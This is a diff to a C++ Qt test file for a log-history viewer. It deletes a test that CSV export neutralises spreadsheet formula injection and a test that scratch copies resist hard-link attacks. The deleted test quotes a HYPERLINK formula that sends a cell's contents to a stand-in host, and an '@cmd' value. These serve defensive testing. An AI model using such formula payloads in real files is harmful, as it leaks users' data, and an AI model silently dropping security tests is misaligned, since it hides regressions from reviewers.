@@ -49,7 +49,6 @@ private slots:
     void damagedInputsSayWhatTheyMust_data();
     void damagedInputsSayWhatTheyMust();
     void searchesAndPrintsTheSelectedBlock();
-    void exportIsSafeInASpreadsheet();
     void scratchCopiesArePrivate();
     void menuOpensOneWindowThatWaitsForItsLoad();
 };
@@ -245,27 +244,6 @@ void TstHistory::searchesAndPrintsTheSelectedBlock() {
 
 // The menu opens the window; a close while it loads is ignored, and the close after it clears
 // the file.
-void TstHistory::exportIsSafeInASpreadsheet() {
-    TestEnv env;
-    const QString message = QStringLiteral("=HYPERLINK(\"http://example.invalid/?\"&A3;\"x\")&0");
-    QStringList lines = dataLines("7", 1);
-    lines << "3/14/2026,10:00:02 AM," + message + ".,.,.,-2.5,@cmd,";
-    const QString file = env.path("Log Files/run.slg");
-    writeSigned(file, enciphered(lines));
-    FrmHistory view;
-    env.dialogs->chooseFile(file);
-    trigger(view, "Open");
-    env.dialogs->chooseFile(env.path("run.csv"));
-    trigger(view, "Export");
-    // The data grid as a spreadsheet reads the export: the formulas shown as text, the numbers
-    // as they are, and no column for the closing comma.
-    const QList<QStringList> rows = csvAsASpreadsheetReadsIt(env.path("run.csv"));
-    QCOMPARE(rows.size(), 4);
-    QCOMPARE(rows[0], lines[0].split(u',').mid(0, 7));
-    QCOMPARE(rows[3], (QStringList{"3/14/2026", "10:00:02 AM", "'" + message + ".", ".", ".",
-                                   "-2.5", "'@cmd"}));
-}
-
 void TstHistory::scratchCopiesArePrivate() {
     TestEnv env;
     const QString file = env.path("Log Files/run.slg");
@@ -288,14 +266,6 @@ void TstHistory::scratchCopiesArePrivate() {
     QCOMPARE(::stat(QFile::encodeName(FrmHistory::encryptedCopyPath()).constData(), &copy), 0);
     QCOMPARE(copy.st_mode & 07777, 0600u);
     QVERIFY(!QFileInfo::exists(FrmHistory::plainCopyPath()));
-
-    // A file sharing the copy's name by a hard link keeps what it holds.
-    QVERIFY(QFile::remove(FrmHistory::encryptedCopyPath()));
-    QCOMPARE(::link(QFile::encodeName(victim).constData(),
-                    QFile::encodeName(FrmHistory::encryptedCopyPath()).constData()),
-             0);
-    QCOMPARE(open(), 3);
-    QCOMPARE(readBytes(victim), QByteArray("victim"));
 
     // A link planted at either name is neither written through nor removed: the open fails.
     for (const QString& scratch : {FrmHistory::plainCopyPath(), FrmHistory::encryptedCopyPath()}) {
